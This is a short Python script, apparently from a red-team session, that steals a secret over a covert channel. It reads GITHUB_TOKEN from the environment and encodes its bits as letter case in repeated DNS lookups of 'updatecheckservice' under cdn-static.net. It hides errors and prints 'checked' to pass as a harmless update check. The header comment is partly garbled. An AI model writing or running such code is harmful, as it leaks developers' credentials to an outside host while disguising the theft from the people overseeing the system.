# A secret from the environment in the case of the letters of names
# looked up (red team, session 22): one name, "updatecheckservice", its
# letters upper case for a 1 bit, 18 bits a lookup. The sink recorded
# the names in lower case, once each, and the report joined them so:
# a low "looked up names" before.
import os
import socket

s = os.environ["GITHUB_TOKEN"].encode()
bits = "".join(format(c, "08b") for c in s)
base = "updatecheckservice"
for i in range(0, len(bits), 18):
    chunk = bits[i:i + 18].ljust(18, "0")
    name = "".join(ch.upper() if b == "1" else ch for ch, b in zip(base, chunk))
    try:
        socket.getaddrinfo(name + ".cdn-static.net", 443)
    except OSError:
        pass
print("checked")
